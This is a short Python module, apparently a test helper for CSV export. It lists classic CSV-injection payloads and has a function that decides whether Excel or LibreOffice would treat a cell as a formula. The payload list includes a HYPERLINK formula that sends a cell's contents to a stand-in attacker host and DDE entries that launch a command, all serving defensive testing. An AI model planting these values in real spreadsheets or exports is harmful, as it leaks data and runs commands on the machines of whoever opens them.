"""The classic CSV-injection payloads, and what a spreadsheet makes of a CSV cell."""

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def spreadsheet_sees(cell):
    """('formula', cell) when Excel or LibreOffice would evaluate the cell, else ('text', shown).

    A leading apostrophe makes the rest text (and is how the portal neutralises a cell).
    """
    if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return ("formula", cell)
    return ("text", cell[1:] if cell.startswith("'") else cell)
